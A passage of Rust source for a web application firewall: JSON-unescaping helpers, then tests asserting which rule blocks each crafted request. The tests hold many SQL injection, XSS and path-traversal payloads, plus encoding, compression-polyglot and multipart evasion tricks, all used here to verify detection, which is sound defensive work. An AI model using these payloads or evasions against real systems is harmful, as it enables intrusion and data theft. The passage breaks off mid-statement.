            s.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
        }
        i += 1;
        let key = skip(bytes.get(i..).unwrap_or_default(), b" \t\r\n").strip_prefix(b":");
        if let Some(value) = key {
            let string = skip(value, b" \t\r\n").first() == Some(&b'"');
            keys.push((strings.len(), string.then_some(strings.len() + 1)));
        }
        if key.is_some() || separator.is_none() {
            joined_run(&strings, &mut run, &mut arrays);
        }
        run_end = key.is_none().then_some(between.len());
        if key.is_none() {
            run.push((strings.len(), separator.unwrap_or_default()));
        }
        strings.push(String::from_utf8_lossy(&s).into_owned());
    }
    joined_run(&strings, &mut run, &mut arrays);
    (
        strings,
        String::from_utf8_lossy(&between).into_owned(),
        keys,
        arrays,
    )
}

/// The text JavaScript puts between two string elements of an array (or of arrays nested in it) when it makes a
/// string of it, if `between` — the JSON text between them — holds only elements' separators: `,`s (at least one),
/// the brackets of nested arrays (dropped), numbers, `true`/`false`, and `null`s (empty elements). `String(["a", 0,
/// null, ["b"]])` is `a,0,,b`. Anything else (a `:`, a brace) ends the run.
fn element_separator(between: &[u8]) -> Option<String> {
    let text: String = std::str::from_utf8(between)
        .ok()?
        .chars()
        .filter(|c| !matches!(c, ' ' | '\t' | '\r' | '\n' | '[' | ']'))
        .collect();
    if !text.contains(',') {
        return None;
    }
    let elements: Option<Vec<&str>> = text
        .split(',')
        .map(|element| match element {
            "" | "null" => Some(""),
            "true" | "false" => Some(element),
            number
                if number
                    .bytes()
                    .all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b)) =>
            {
                Some(number)
            }
            _ => None,
        })
        .collect();
    Some(elements?.join(","))
}

/// The strings of a run of array elements ([`json_strings`]) joined with their separators into `arrays` when there
/// are two or more; the run emptied.
fn joined_run(strings: &[String], run: &mut Vec<(usize, String)>, arrays: &mut Vec<String>) {
    if run.len() > 1 {
        let joined = run
            .iter()
            .map(|(k, separator)| format!("{separator}{}", strings[*k]))
            .collect::<String>();
        arrays.push(joined);
    }
    run.clear();
}

/// `text` with its JSON escapes decoded wherever they stand, as [`json_strings`] decodes a string's.
fn json_unescaped(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(pos) = memchr::memchr(b'\\', &bytes[i..]) {
        out.extend_from_slice(&bytes[i..i + pos]);
        i += pos;
        match json_escape(bytes, &mut i) {
            Some(c) => out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes()),
            None => break,
        }
    }
    out.extend_from_slice(&bytes[i.min(bytes.len())..]);
    String::from_utf8_lossy(&out).into_owned()
}

/// The character the escape at `bytes[*i]` (a `\\`) spells, moving `i` past it; `None` for a `\\` that ends the text.
fn json_escape(bytes: &[u8], i: &mut usize) -> Option<char> {
    let escaped = bytes.get(*i + 1).copied();
    *i += 2;
    Some(match escaped? {
        b'u' => {
            let (c, used) = unicode_escape(&bytes[*i..]);
            *i += used;
            c
        }
        b'n' => '\n',
        b't' => '\t',
        b'r' => '\r',
        b'b' => '\u{8}',
        b'f' => '\u{c}',
        other => char::from(other),
    })
}

/// The character of a `\u` escape whose four hex digits start `rest` (with the low half of a surrogate pair when
/// one follows as `\uXXXX`), and how many bytes it used; U+FFFD for a lone surrogate or bad digits.
fn unicode_escape(rest: &[u8]) -> (char, usize) {
    let hex = |at: usize| {
        rest.get(at..at + 4)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u32::from_str_radix(h, 16).ok())
    };
    let Some(unit) = hex(0) else {
        return (char::REPLACEMENT_CHARACTER, 0);
    };
    if (0xD800..0xDC00).contains(&unit) && rest.get(4..6) == Some(b"\\u") {
        if let Some(low @ 0xDC00..=0xDFFF) = hex(6) {
            let c = 0x10000 + ((unit - 0xD800) << 10) + (low - 0xDC00);
            return (char::from_u32(c).unwrap_or(char::REPLACEMENT_CHARACTER), 10);
        }
    }
    (
        char::from_u32(unit).unwrap_or(char::REPLACEMENT_CHARACTER),
        4,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_body_in_a_coding_the_waf_cannot_read_back_is_refused() {
        let block = WafConfig::default();
        for (coding, refused) in [
            (None, false),
            (Some(""), false),
            (Some("identity"), false),
            (Some(" Identity "), false),
            (Some("gzip"), false),
            (Some("deflate"), false),
            (Some("identity, gzip"), false),
            (Some("br"), true),
            (Some("zstd"), true),
            (Some("gzip, gzip"), true),
            (Some("x-custom"), true),
        ] {
            assert_eq!(
                inspect_coding(&block, coding).map(|h| h.rule),
                refused.then_some("body-encoding"),
                "{coding:?}"
            );
        }
        let off = WafConfig {
            mode: WafMode::Off,
            ..WafConfig::default()
        };
        assert_eq!(
            inspect_coding(&off, Some("br")),
            None,
            "the WAF off reads nothing"
        );
    }

    /// `rules: []` keeps the size rules and reads nothing: the refusals of what the rules cannot read (a charset,
    /// a coding, a multipart form's transfer encoding) protect rules there are none of — `validate` itself tells
    /// to "drop rules to switch inspection off" — so a `br` upload or a UTF-16 form passes, as in mode `off`.
    #[test]
    fn a_waf_without_rules_refuses_no_body_it_cannot_read() {
        let none = WafConfig {
            rules: Vec::new(),
            ..WafConfig::default()
        };
        assert_eq!(inspect_coding(&none, Some("br")), None, "br");
        assert_eq!(
            inspect_body(&none, Some("text/plain; charset=utf-16"), b"hello"),
            None,
            "charset"
        );
        assert_eq!(
            inspect_body(
                &none,
                Some("multipart/form-data; boundary=B"),
                b"--B\r\nContent-Disposition: form-data; name=a\r\nContent-Transfer-Encoding: base64\r\n\r\nJw==\r\n--B--\r\n"
            ),
            None,
            "transfer encoding"
        );
        let corrupt = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03garbage";
        assert_eq!(
            inspect_coded_body(
                &none,
                None,
                super::super::inflate::Coding::Gzip,
                corrupt,
                true
            ),
            None,
            "corrupt gzip"
        );
        assert_eq!(
            inspect_sizes(&none, 0, Some(none.max_body_bytes + 1)).map(|h| h.rule),
            Some("size-body"),
            "the size rules stay"
        );
    }

    /// Bytes that are zlib to Node and raw deflate to ASP.NET Core's `DeflateStream`: the zlib reading decoded (a
    /// stored block), so the body passed while the raw reading, stopped by the WAF after a flood of empty blocks or
    /// at the read bound short of the cap, never reached the attack the raw origin reads.
    #[test]
    fn a_deflate_body_one_reading_of_which_is_cut_short_is_refused() {
        use super::super::inflate::{craft, read_bound, Coding};
        let attack = br#"{"q":"x' union select password from users--"}"#;
        let empty_blocks = craft::empty_fixed_blocks(100);
        let flood =
            craft::zlib_raw_polyglot(&[&empty_blocks[..], &craft::fixed_codes(attack)].concat());
        let long = craft::zlib_raw_polyglot(
            &[
                &craft::spaces_in_long_codes(4000)[..],
                &craft::fixed_codes(attack),
            ]
            .concat(),
        );
        let small = WafConfig {
            inspect_body_bytes: 4096,
            ..WafConfig::default()
        };
        let data: Vec<u8> = (0..200_000u32)
            .flat_map(|i| format!("{} ", i.wrapping_mul(2_654_435_761) % 1000).into_bytes())
            .collect();
        let benign = miniz_oxide::deflate::compress_to_vec_zlib(&data, 6);
        for (label, config, coded, whole, expected) in [
            (
                "flood",
                WafConfig::default(),
                &flood[..],
                true,
                Some("body-encoding"),
            ),
            (
                "long codes",
                small.clone(),
                &long[..read_bound(4096)],
                false,
                Some("body-encoding"),
            ),
            (
                "benign prefix",
                small.clone(),
                &benign[..read_bound(4096)],
                false,
                None,
            ),
        ] {
            for ct in ["application/octet-stream", "application/json"] {
                let hit = inspect_coded_body(&config, Some(ct), Coding::Deflate, coded, whole);
                if expected.is_none() {
                    assert_eq!(hit.map(|h| h.rule), None, "{label} {ct}");
                } else {
                    assert!(hit.is_some(), "{label} {ct}");
                }
            }
            assert_eq!(
                inspect_coded_body(
                    &config,
                    Some("application/octet-stream"),
                    Coding::Deflate,
                    coded,
                    whole
                )
                .map(|h| h.rule),
                expected,
                "{label}"
            );
        }
    }

    /// BGZF (bgzip's `.vcf.gz`, `.bed.gz`: gzip members whose extra field `BC` holds the member's size) of a text
    /// file was refused (traversal-file, for the NULs of the field's binary lengths) under any textual type; text
    /// spelled in an extra field is still read.
    #[test]
    fn a_gzip_extra_fields_binary_bytes_are_no_attack() {
        use super::super::inflate::{crc32, Coding};
        let member = |data: &[u8], extra: &[u8]| {
            let mut out = vec![0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 0xff];
            out.extend_from_slice(&(extra.len() as u16).to_le_bytes());
            out.extend_from_slice(extra);
            out.extend(miniz_oxide::deflate::compress_to_vec(data, 6));
            out.extend_from_slice(&crc32(data).to_le_bytes());
            out.extend_from_slice(&(data.len() as u32).to_le_bytes());
            out
        };
        let vcf = b"#CHROM\tPOS\tID\tREF\tALT\n1\t10177\trs367896724\tA\tAC\n";
        let bgzf = [
            member(vcf, &[b'B', b'C', 2, 0, 0x3a, 0]),
            // BGZF's end-of-file marker: an empty member with the same field.
            member(b"", &[b'B', b'C', 2, 0, 0x1b, 0]),
        ]
        .concat();
        let config = WafConfig::default();
        for ct in [
            None,
            Some("text/plain"),
            Some("text/tab-separated-values"),
            Some("application/json"),
        ] {
            assert_eq!(
                inspect_coded_body(&config, ct, Coding::Gzip, &bgzf, true),
                None,
                "{ct:?}"
            );
        }
        let form = member(b"a=1", b"xx\0\0&q=x' union select password from users--&");
        assert_eq!(
            inspect_coded_body(
                &config,
                Some("application/x-www-form-urlencoded"),
                Coding::Gzip,
                &form,
                true
            )
            .map(|h| h.rule),
            Some("sqli-union")
        );
    }

    #[test]
    fn a_body_in_gzip_or_deflate_is_read_inflated_by_every_reading() {
        use super::super::inflate::Coding;
        use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};
        let gzip = |data: &[u8], comment: &[u8]| {
            let flags = if comment.is_empty() { 0 } else { 16 };
            let mut out = vec![0x1f, 0x8b, 8, flags, 0, 0, 0, 0, 0, 3];
            if !comment.is_empty() {
                out.extend_from_slice(comment);
                out.push(0);
            }
            out.extend(compress_to_vec(data, 1));
            out.extend_from_slice(&super::super::inflate::crc32(data).to_le_bytes());
            out.extend_from_slice(&(data.len() as u32).to_le_bytes());
            out
        };
        let config = WafConfig::default();
        let rule = |ct: &str, coding: Coding, coded: &[u8]| {
            inspect_coded_body(&config, Some(ct), coding, coded, true).map(|h| h.rule)
        };
        let json = br#"{"q":"x' union select password from users--"}"#;
        let plain = inspect_body(&config, Some("application/json"), json).map(|h| h.rule);
        assert!(plain.is_some());
        let benign = br#"{"q":"a fine day","n":[1,2,3]}"#;
        for ct in [
            "application/json",
            "application/octet-stream",
            "image/png",
            "text/plain",
        ] {
            assert_eq!(
                rule(ct, Coding::Gzip, &gzip(json, b"")),
                inspect_body(&config, Some(ct), json).map(|h| h.rule),
                "{ct}: the attack's own rule"
            );
            assert_eq!(rule(ct, Coding::Gzip, &gzip(benign, b"")), None, "{ct}");
            assert_eq!(
                rule(ct, Coding::Deflate, &compress_to_vec_zlib(benign, 6)),
                None,
                "{ct}"
            );
        }
        assert_eq!(
            rule(
                "application/json",
                Coding::Deflate,
                &compress_to_vec_zlib(json, 1)
            ),
            plain
        );
        assert_eq!(
            rule(
                "application/json",
                Coding::Deflate,
                &compress_to_vec(json, 1)
            ),
            plain
        );
        // The attack in a second member.
        let two = [gzip(benign, b""), gzip(json, b"")].concat();
        assert_eq!(rule("application/json", Coding::Gzip, &two), plain);
        let xss = br#"{"c":"<script>alert(1)</script>"}"#;
        assert_eq!(
            rule("application/json", Coding::Gzip, &gzip(xss, b"")),
            Some("xss-script")
        );
        // A form in a gzip comment, for an origin that parses the coded bytes as they are (PHP, Go, Django).
        assert_eq!(
            rule(
                "application/x-www-form-urlencoded",
                Coding::Gzip,
                &gzip(b"a=1", b"&q=x' union select password from users--&")
            ),
            Some("sqli-union")
        );
        // Nothing decodes: refused by the coding's rule.
        let mut corrupt = gzip(benign, b"");
        corrupt[12] ^= 0x55;
        for bad in [
            corrupt,
            [&gzip(benign, b"")[..], b"junk"].concat(),
            b"not gzip".to_vec(),
        ] {
            assert_eq!(
                rule("application/json", Coding::Gzip, &bad),
                Some("body-encoding")
            );
            assert_eq!(
                rule("application/json", Coding::Deflate, &bad),
                Some("body-encoding")
            );
        }
        // An empty body has nothing to read; the WAF off reads nothing.
        assert_eq!(rule("application/json", Coding::Gzip, b""), None);
        let off = WafConfig {
            mode: WafMode::Off,
            ..WafConfig::default()
        };
        assert_eq!(
            inspect_coded_body(&off, None, Coding::Gzip, b"junk", true),
            None
        );
    }

    #[test]
    fn quote_parity_answers_as_counting_to_the_end_does() {
        let mut seed = 11u64;
        for len in [0usize, 1, 63, 64, 65, 200, 1000] {
            let text: Vec<u8> = (0..len)
                .map(|_| {
                    seed = seed
                        .wrapping_mul(6364136223846793005)
                        .wrapping_add(1442695040888963407);
                    [b'\'', b'"', b'a', b' '][(seed >> 40) as usize % 4]
                })
                .collect();
            let parity = QuoteParity::new(&text);
            for at in 0..=len {
                for quote in [b'\'', b'"'] {
                    let naive = text[at..].iter().filter(|b| **b == quote).count() % 2 == 1;
                    assert_eq!(
                        parity.odd_in(&text[at..], quote),
                        naive,
                        "len {len} at {at}"
                    );
                }
            }
        }
    }

    #[test]
    fn an_open_quote_or_list_repeated_over_a_large_body_is_read_to_the_end_without_a_hit() {
        // Each unit starts a look-ahead; these two were quadratic (1 MiB: 15 s and 8 s in wasm), now linear.
        for unit in ["'x'or a>b or ''", "\"x\"or a>b or \"\"", "'or 1 in ("] {
            let body = unit.repeat(64 * 1024 / unit.len());
            assert!(!tautology(body.as_bytes()), "{unit}");
            let config = WafConfig::default();
            assert_eq!(scan(&config, &body, "body").map(|h| h.rule), None, "{unit}");
        }
    }

    fn config() -> WafConfig {
        WafConfig::default()
    }

    #[test]
    fn double_encoded_input_is_decoded_before_matching() {
        let decoded = |raw| decode(raw, false);
        assert_eq!(decoded("%2527").as_deref(), Some("'"));
        assert_eq!(decoded("%252e%252e%252f").as_deref(), Some("../"));
        assert_eq!(decode("a+b%20c", true).as_deref(), Some("a b c"));
        assert_eq!(
            decoded("100%").as_deref(),
            Some("100%"),
            "a bad escape is kept"
        );
        let nested = |levels: usize| format!("%{}27", "25".repeat(levels - 1));
        assert_eq!(
            decode(&nested(16), false).as_deref(),
            Some("'"),
            "sixteen rounds"
        );
        assert_eq!(
            decode(&nested(17), false),
            None,
            "still encoded after sixteen"
        );
        assert_eq!(
            decoded("%c0%ae%c0%ae%c0%af").as_deref(),
            Some("../"),
            "overlong UTF-8"
        );
        assert_eq!(
            decoded("%e0%80%ae%f0%80%80%ae%c0%80").as_deref(),
            Some("..\0")
        );
        assert_eq!(
            decoded("caf%e9+%c3%a9").as_deref(),
            Some("caf\u{fffd}+é"),
            "other bytes that are not UTF-8 stay U+FFFD"
        );
    }

    /// ASP.NET's `HttpUtility.UrlDecode` (its `Request.QueryString` and `Request.Form`) and IIS decode `%uXXXX`:
    /// every rule was passed by spelling the attack's characters so.
    #[test]
    fn percent_u_escapes_are_decoded_as_asp_net_decodes_them() {
        let c = config();
        for (query, rule) in [
            ("q=%u003cscript%u003eprompt(1)", Some("xss-script")),
            ("q=%U003Cscript%U003E", Some("xss-script")),
            (
                "u=x%u0027+or+%u00271%u0027%3D%u00271",
                Some("sqli-tautology"),
            ),
            ("id=1+union%u0020select+pw", Some("sqli-union")),
            (
                "f=%u002e%u002e%u002fetc%u002fpasswd",
                Some("traversal-dotdot"),
            ),
            ("q=%25u003cscript%25u003e", Some("xss-script")),
            ("q=100%25u+sure", None),
            ("q=%u00", None),
            ("q=%uzzzz", None),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                rule,
                "{query}"
            );
        }
        assert_eq!(
            inspect_url(&c, "/files/%u002e%u002e/admin", None).map(|h| h.rule),
            Some("traversal-dotdot")
        );
        let form = inspect_body(
            &c,
            Some("application/x-www-form-urlencoded"),
            b"bio=%u003csvg%u002fonload%u003dprompt(1)%u003e",
        );
        assert_eq!(form.map(|h| h.rule), Some("xss-script"));
        // A surrogate pair is its character, a lone surrogate U+FFFD; `%XX` in the same round as ASP.NET's.
        assert_eq!(
            decode("%ud83d%ude00%u0041%ud800x%41", false).as_deref(),
            Some("\u{1F600}A\u{FFFD}xA")
        );
    }

    #[test]
    fn evasions_a_lenient_reader_undoes_are_caught() {
        let c = config();
        for (query, rule) in [
            ("u=java%09script:prompt(1)", "xss-scheme"),
            ("u=java%0d%0ascript:prompt(1)", "xss-scheme"),
            ("u=java%26%23x09;script:prompt(1)", "xss-scheme"),
            ("u=javascript%26colon;prompt(1)", "xss-scheme"),
            ("u=javascript%26%2358prompt(1)", "xss-scheme"),
            ("q=%26%2360script%3Eprompt(1)", "xss-script"),
            ("q=%26%23x0003C;script%3E", "xss-script"),
            ("q=%26ltscript%3E", "xss-script"),
            ("q=%26LT;SCRIPT%26GT;", "xss-script"),
            ("q=%EF%BC%9Cscript%EF%BC%9Eprompt(1)", "xss-script"),
            (
                "q=%EF%BC%B3%EF%BC%A5%EF%BC%AC%EF%BC%A5%EF%BC%A3%EF%BC%B4%E3%80%80",
                "",
            ),
            ("f=%c0%ae%c0%ae%c0%afetc", "traversal-dotdot"),
            ("f=%2525252e%2525252e%2525252fx", "traversal-dotdot"),
            ("f=%252525252e%252525252e%252525252fx", "traversal-dotdot"),
            ("u='||'1'='1", "sqli-tautology"),
            ("u=x'+or+'b'%3D'b", "sqli-tautology"),
            ("u=%22+or+2%3D2--", "sqli-tautology"),
            ("u=')+or+('a'%3D'a", "sqli-tautology"),
            ("id=1+or+2%3D2", "sqli-tautology"),
            ("u=x'%26%26'z'+like+'z", "sqli-tautology"),
            ("id=1%3B+update+users+set+role%3D'admin'", "sqli-stacked"),
            ("id=1%3B+update+users+--+%3B%0Aset+role%3D'admin'", "sqli-stacked"),
            (
                "id=1%3B+update+users+--+aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa%0Aset+role%3D1",
                "sqli-stacked",
            ),
            ("t=sleep(0xa)", "sqli-function"),
            ("t=sleep(1e1)", "sqli-function"),
            ("t=dbms_lock.sleep(5d)", "sqli-function"),
            ("t=benchmark(5000000,md5(1))", "sqli-function"),
            ("t=benchmark((5000000),md5(1))", "sqli-function"),
            ("t=benchmark(abs(5000000),md5(1))", "sqli-function"),
            ("t=benchmark(5e6%2B0*')',md5(1))", "sqli-function"),
            ("t=1+and+benchmark(10000000%2Blength('%5C'')%2Cmd5(1))", "sqli-function"),
            ("t=1+and+benchmark(1e7%23'%0A%2Cmd5(1))", "sqli-function"),
            ("id=1;update+users+set+role%3D'admin'", "sqli-stacked"),
        ] {
            let expected = (!rule.is_empty()).then_some(rule);
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                expected,
                "{query}"
            );
        }
        let json = inspect_body(&c, Some("application/json"), br#"{"u":"java\tscript:x"}"#);
        assert_eq!(json.map(|h| h.rule), Some("xss-scheme"));
        let level = format!("%{}", "25".repeat(16));
        let deep = format!("f={level}2e{level}2e{level}2fx");
        let long_argument = format!("t=benchmark({},md5(1))", "1".repeat(200));
        let joined = format!(
            "id=1;+update+users+u+{}set+u.role%3D1",
            "join+users+v+on+u.id%3Dv.id+".repeat(12)
        );
        for query in [long_argument, joined] {
            assert!(inspect_url(&c, "/api", Some(&query)).is_some(), "{query}");
        }
        assert_eq!(
            inspect_url(&c, "/api", Some(&deep)).map(|h| h.rule),
            Some("encoding-depth"),
            "seventeen levels"
        );
        let only_sqli = WafConfig {
            rules: vec![RuleSet::Sqli],
            ..c
        };
        assert_eq!(
            inspect_url(&only_sqli, "/api", Some("u=java%09script:x")),
            None
        );
    }

    /// The inspection cap falls anywhere in an upload, also inside a later part's headers: the form read up to
    /// there is still a form, the cut headers no content follows (read as text), not a body of another shape read
    /// whole as text — where every PNG before them is refused for its NUL bytes (a photo upload of more than 64 KiB
    /// with a second file or field was refused by where the cap fell).
    #[test]
    fn a_multipart_prefix_cut_inside_a_parts_headers_is_still_read_part_by_part() {
        let c = config();
        let form = |body: &[u8]| {
            inspect_body(&c, Some("multipart/form-data; boundary=XyZ"), body).map(|h| h.rule)
        };
        let file = b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\r\n";
        let next = b"--XyZ\r\nContent-Disposition: form-data; name=\"g\"; filename=\"b.png\"\r\nContent-Type: image/png\r\n\r\n";
        for cut in 1..next.len() - 4 {
            let body = [&file[..], &next[..cut]].concat();
            assert_eq!(
                form(&body),
                None,
                "cut after {:?}",
                String::from_utf8_lossy(&next[..cut])
            );
        }
        let whole = [&file[..], &next[..], b"\x89PNG\0\0\r\n--XyZ--\r\n"].concat();
        for cut in 1..=whole.len() {
            assert_eq!(form(&whole[..cut]), None, "cut at {cut} of {}", whole.len());
        }
        let utf8 =
            "--XyZ\r\nContent-Disposition: form-data; name=\"g\"; filename=\"фото.png\"".as_bytes();
        let inside = utf8.len() - "ото.png\"".len() - 1;
        assert_eq!(
            form(&[&file[..], &utf8[..inside]].concat()),
            None,
            "cut inside a filename's character"
        );
        let attack = b"--XyZ\r\nContent-Disposition: form-data; name=\"<script>prompt(1)</script>";
        assert_eq!(
            form(&[&file[..], &attack[..]].concat()),
            Some("xss-script"),
            "the cut headers are read"
        );
    }

    #[test]
    fn binary_bodies_are_left_to_the_size_rules_and_multipart_forms_read_part_by_part() {
        let c = config();
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\x08\x06\0\0\0<script>";
        assert_eq!(inspect_body(&c, Some("image/png"), png), None, "a PNG");
        let octets = inspect_body(&c, Some("application/octet-stream"), b"1 union select pw");
        assert_eq!(
            octets.map(|h| h.rule),
            Some("sqli-union"),
            "text under any type"
        );
        let json_nul = inspect_body(
            &c,
            Some("application/json"),
            b"{\"f\": \"a.php\\u0000.jpg\"}",
        );
        assert_eq!(
            json_nul.map(|h| h.rule),
            Some("traversal-file"),
            "textual types always"
        );
        let plain_nul = inspect_body(&c, None, b"file=a.php\0.jpg");
        assert_eq!(plain_nul.map(|h| h.rule), Some("traversal-file"), "no type");
        let form = |parts: &[u8]| {
            inspect_body(&c, Some("multipart/form-data; boundary=\"XyZ\""), parts).map(|h| h.rule)
        };
        let file = b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\0\0\0\rIHDR\r\n";
        let field = |value: &str| {
            format!("--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n{value}\r\n")
        };
        let closing = b"--XyZ--\r\n";
        let body = |fields: &[&[u8]]| fields.concat();
        assert_eq!(
            form(&body(&[file, field("Hello, O'Brien").as_bytes(), closing])),
            None
        );
        assert_eq!(
            form(&body(&[
                file,
                field("<script>prompt(1)</script>").as_bytes(),
                closing
            ])),
            Some("xss-script"),
            "a text field after a binary file"
        );
        let traversal = b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/cron.d/x\"\r\n\r\n\0\r\n--XyZ--";
        assert_eq!(
            form(traversal),
            Some("traversal-dotdot"),
            "a part's filename"
        );
        assert_eq!(
            form(&field("1 union select pw from users").as_bytes()[..70]),
            Some("sqli-union"),
            "a prefix cut inside a part"
        );
        assert_eq!(
            inspect_body(&c, Some("multipart/form-data"), b"x\0<script>").map(|h| h.rule),
            Some("xss-script"),
            "no boundary: read whole, as text"
        );
        // Evasions of the part reading, each blocked.
        let fake_close = b"--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\nhi --XyZ--<script>prompt(1)</script>\r\n--XyZ--\r\n";
        assert_eq!(
            form(fake_close),
            Some("xss-script"),
            "a delimiter counts at a line's start only"
        );
        for value in [
            "<script>prompt(1)</script>\u{ff}",
            "<script>prompt(1)</script>\0",
        ] {
            let mut body = field("x").into_bytes();
            body.extend_from_slice(&field(value).into_bytes());
            assert_eq!(
                form(&body),
                Some("xss-script"),
                "{value:?}: a text field is read whole"
            );
        }
        let latin1 = [&field("x").into_bytes()[..], b"--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nCaf\xe9' union select password from users--\r\n"].concat();
        assert_eq!(
            form(&latin1),
            Some("sqli-union"),
            "a field that is not UTF-8"
        );
        for content_type in [
            "multipart/form-data, boundary=XyZ",
            "multipart/form-data boundary=XyZ",
            "multipart/form-data;BOUNDARY=XyZ",
        ] {
            let body = body(&[
                file,
                field("<script>prompt(1)</script>").as_bytes(),
                closing,
            ]);
            assert_eq!(
                inspect_body(&c, Some(content_type), &body).map(|h| h.rule),
                Some("xss-script"),
                "{content_type}"
            );
        }
        let lf_only = b"--XyZ\nContent-Disposition: form-data; name=\"bio\"\n\n<script>prompt(1)</script>\n--XyZ--\n";
        assert_eq!(form(lf_only), Some("xss-script"), "LF line ends");
        // Text under a binary type is read up to where a parser would stop too.
        for body in [
            &b"{\"q\":\"1 union select password from users\xff\"}"[..],
            b"{\"q\":\"<script>prompt(1)</script>\"}\0",
        ] {
            for content_type in ["image/png", "application/octet-stream", "application/grpc"] {
                assert!(
                    inspect_body(&c, Some(content_type), body).is_some(),
                    "{content_type} {body:?}"
                );
            }
        }
        assert_eq!(
            inspect_body(&c, Some("application/grpc"), b"\0\0\0\0\x05\x0a\x03'#/"),
            None,
            "a gRPC frame starts with a NUL"
        );
        // Parts as PHP, Go, busboy and werkzeug read them (the second review's cases).
        let attack = b"\0<script>prompt(1)</script>";
        let part = |headers: &str, content: &[u8]| {
            [
                format!("--XyZ\r\n{headers}\r\n\r\n").as_bytes(),
                content,
                b"\r\n",
            ]
            .concat()
        };
        let binary_field = [
            part("Content-Disposition: form-data; name=\"q\"\r\nContent-Type: application/octet-stream", attack),
            closing.to_vec(),
        ]
        .concat();
        assert_eq!(
            form(&binary_field),
            Some("xss-script"),
            "a field is a field whatever its type"
        );
        let junk_delimiter = [
            part(
                "Content-Disposition: form-data; name=\"q\"",
                b"hi\r\n--XyZfoo\r\nContent-Type: image/png\r\n\r\n\0<script>prompt(1)</script>",
            ),
            closing.to_vec(),
        ]
        .concat();
        assert_eq!(
            form(&junk_delimiter),
            Some("xss-script"),
            "--XyZfoo is text"
        );
        let lf_blank = b"--XyZ\r\nContent-Disposition: form-data; name=\"q\"\n\nContent-Type: image/png\r\n\r\n\0<script>prompt(1)</script>\r\n--XyZ--";
        assert_eq!(
            form(lf_blank),
            Some("xss-script"),
            "headers end at the first empty line"
        );
        let decoy = [
            b"--AAA\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\0x\r\n".to_vec(),
            part("Content-Disposition: form-data; name=\"q\"", b"<script>prompt(1)</script>"),
            closing.to_vec(),
        ]
        .concat();
        let decoyed = inspect_body(
            &c,
            Some("multipart/form-data; xboundary=AAA; boundary=XyZ"),
            &decoy,
        );
        assert!(
            decoyed.is_some(),
            "two readings of the boundary: read as text"
        );
        assert!(
            inspect_body(
                &c,
                Some("multipart/form-data; boundary=\"\n\""),
                b"--\n--\n"
            )
            .is_none(),
            "a boundary with a line end: no panic"
        );
        // Text under other types, read as the lenient parsers behind them read it.
        let octets = inspect_body(
            &c,
            Some("application/octet-stream"),
            b"{\"q\":\"\xff<script>prompt(1)</script>\"}",
        );
        assert_eq!(
            octets.map(|h| h.rule),
            Some("xss-script"),
            "a byte that is not UTF-8 is U+FFFD to Go and Node"
        );
        for content_type in [
            None,
            Some("text/plain"),
            Some("application/csp-report"),
            Some("application/octet-stream"),
        ] {
            let escaped = inspect_body(&c, content_type, br#"{"q":"\u003cscript\u003eprompt(1)"}"#);
            assert_eq!(
                escaped.map(|h| h.rule),
                Some("xss-script"),
                "{content_type:?}: JSON escapes decoded"
            );
        }
        let php_form = inspect_body(
            &c,
            Some("application/x-www-form-urlencoded,x"),
            b"q=1'+union+select+password+from+users--",
        );
        assert_eq!(
            php_form.map(|h| h.rule),
            Some("sqli-union"),
            "a form to PHP"
        );
        // The third review's part readings, each read so the attack shows.
        let script = "<script>prompt(1)</script>";
        let read = |content_type: &str, body: &[u8]| {
            inspect_body(&c, Some(content_type), body).map(|h| h.rule)
        };
        for (content_type, body) in [
            (
                "multipart/form-data; boundary=ZZZ",
                format!(
                    "--A\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{script}\r\n--A--"
                ),
            ),
            (
                "multipart/form-data; boundary=ZZZ",
                format!("{{\"q\":\"{script}\"}}"),
            ),
            (
                "multipart/form-data; boundary=\"A\\\"B\"",
                format!("--A\"B\r\n\r\n{script}"),
            ),
            (
                "multipart/form-data; BOUNDARY=B; boundary=A",
                format!("--A\r\n\r\n{script}\r\n--B\r\n\r\nx"),
            ),
        ] {
            assert_eq!(
                read(content_type, body.as_bytes()),
                Some("xss-script"),
                "{content_type}: {body}"
            );
        }
        for disposition in [
            "Content-Disposition: form-data; name=\"a;filename=x\"",
            "Content-Disposition: form-data; name=\"q\"; filename=\"\"",
            "Content-Disposition: form-data; name=\"q\"; filename*=UTF-8''a.png",
            "X-Note: a\r\n Content-Disposition: form-data; name=\"q\"; filename=\"a.png\"",
            "Content-Disposition : form-data; name=\"q\"; filename=\"a.png\"",
        ] {
            let body = [
                format!("--XyZ\r\n{disposition}\r\nContent-Type: image/png\r\n\r\n").as_bytes(),
                b"\x01",
                script.as_bytes(),
                b"\r\n--XyZ--",
            ]
            .concat();
            assert_eq!(
                read("multipart/form-data; boundary=XyZ", &body),
                Some("xss-script"),
                "{disposition}: a field"
            );
        }
        let after_close = format!(
